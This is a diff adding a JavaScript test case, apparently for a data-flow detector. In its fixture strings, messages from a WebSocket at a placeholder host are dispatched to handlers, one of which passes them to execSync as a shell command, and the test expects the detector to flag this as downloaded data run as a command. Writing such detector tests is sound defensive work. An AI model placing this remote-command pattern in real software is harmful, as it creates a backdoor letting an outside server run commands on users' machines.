@@ -35,6 +35,16 @@ describe('functions that are called again', () => {
       );
   });
 
+  it('do another thing for each name that a loop has made them for', () => {
+    const table = `const h = { ping: () => 'pong', stop: () => 0, run: (d) => cp.execSync(d.cmd) }; const ws = new WebSocket('wss://load.invalid');`;
+    for (const loop of [
+      `for (const k of Object.keys(h)) ws.addEventListener(k, ({ data }) => h[k](JSON.parse(data)));`,
+      `for (const [k, f] of Object.entries(h)) ws.addEventListener(k, ({ data }) => f(JSON.parse(data)));`,
+      `Object.keys(h).forEach((k) => ws.addEventListener(k, ({ data }) => h[k](JSON.parse(data))));`,
+    ])
+      assert.deepEqual([...new Set(flowsOf(`${table} ${loop}`))], ['downloaded>run-as-command'], loop);
+  });
+
   it('settle it with what is only shown', () => {
     const run = `async function run() { const page = await ask('https://note.invalid'); console.log((await ask(page.body)).body); } run();`;
     assert.deepEqual(flowsOf(`${ASK} ${run}`), []);
